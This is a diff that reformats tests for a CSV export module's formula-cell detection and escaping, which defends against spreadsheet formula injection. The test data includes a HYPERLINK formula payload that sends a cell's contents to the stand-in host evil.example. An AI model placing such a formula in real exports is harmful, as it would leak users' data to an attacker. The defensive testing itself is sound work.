@@ -17,13 +17,39 @@ const PAYLOAD = '=HYPERLINK("https://evil.example/?q="&C2,"Open chart\nrecord")'
 
 describe('isFormulaCell', () => {
   it('is true for a cell a spreadsheet would run: =, +, -, @ first, also after spaces or line breaks, or a tab or carriage return first', () => {
-    for (const cell of [PAYLOAD, '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '\tplain', '\rplain', ' =1+1', '\n=HYPERLINK("x")', '\r\n @SUM(1)', '\u00a0+1', '\ufeff=1', '＝1+1']) {
+    for (const cell of [
+      PAYLOAD,
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1',
+      '\r=1',
+      '\tplain',
+      '\rplain',
+      ' =1+1',
+      '\n=HYPERLINK("x")',
+      '\r\n @SUM(1)',
+      '\u00a0+1',
+      '\ufeff=1',
+      '＝1+1',
+    ]) {
       expect(isFormulaCell(cell), JSON.stringify(cell)).toBe(true);
     }
   });
 
   it('is false for text and for a plain negative amount, which a spreadsheet reads as the number it is', () => {
-    for (const cell of ['', 'Maria Lopez', "James O'Neil", 'Open chart\n=record', 'a=b', '-25.00', '-7', '1240.50', ' ', '\nplain']) {
+    for (const cell of [
+      '',
+      'Maria Lopez',
+      "James O'Neil",
+      'Open chart\n=record',
+      'a=b',
+      '-25.00',
+      '-7',
+      '1240.50',
+      ' ',
+      '\nplain',
+    ]) {
       expect(isFormulaCell(cell), JSON.stringify(cell)).toBe(false);
     }
     // Only a whole number is spared: a sum behind a minus sign still runs.
@@ -34,13 +60,22 @@ describe('isFormulaCell', () => {
 
 describe('csvText', () => {
   it('writes RFC 4180: CRLF between rows, a cell quoted when it holds a comma, a quote, a line break or edge spaces', () => {
-    expect(csvText(['Rider', 'Amount'], [['Lopez, Maria', '12.50'], ['Say "hi"', '-3.05'], ['two\nlines', ' x ']])).toBe(
-      'Rider,Amount\r\n"Lopez, Maria",12.50\r\n"Say ""hi""",-3.05\r\n"two\nlines"," x "',
-    );
+    expect(
+      csvText(
+        ['Rider', 'Amount'],
+        [
+          ['Lopez, Maria', '12.50'],
+          ['Say "hi"', '-3.05'],
+          ['two\nlines', ' x '],
+        ],
+      ),
+    ).toBe('Rider,Amount\r\n"Lopez, Maria",12.50\r\n"Say ""hi""",-3.05\r\n"two\nlines"," x "');
   });
 
   it('quotes a formula cell with a leading apostrophe, so the payload whose line break defeats papaparse stays text', () => {
-    expect(csvText(['Patient'], [[PAYLOAD]])).toBe(`Patient\r\n"'=HYPERLINK(""https://evil.example/?q=""&C2,""Open chart\nrecord"")"`);
+    expect(csvText(['Patient'], [[PAYLOAD]])).toBe(
+      `Patient\r\n"'=HYPERLINK(""https://evil.example/?q=""&C2,""Open chart\nrecord"")"`,
+    );
     expect(roundTrip(PAYLOAD).cell).toBe(`'${PAYLOAD}`);
     expect(roundTrip('\n=1+1').cell).toBe("'\n=1+1");
     expect(roundTrip('-25.00').cell).toBe('-25.00');
@@ -49,7 +84,13 @@ describe('csvText', () => {
   /** Any text, leaning towards what a spreadsheet would run: a formula character after some white space. */
   const cellText = fc.oneof(
     fc.string({ unit: 'binary' }),
-    fc.tuple(fc.stringMatching(/^[ \t\r\n\u00a0\ufeff]{0,3}$/), fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', "'", '"', ','), fc.string({ unit: 'binary' })).map((parts) => parts.join('')),
+    fc
+      .tuple(
+        fc.stringMatching(/^[ \t\r\n\u00a0\ufeff]{0,3}$/),
+        fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', "'", '"', ','),
+        fc.string({ unit: 'binary' }),
+      )
+      .map((parts) => parts.join('')),
     fc.tuple(fc.integer(), fc.nat(99)).map(([whole, cents]) => `${whole}.${String(cents).padStart(2, '0')}`),
   );
 
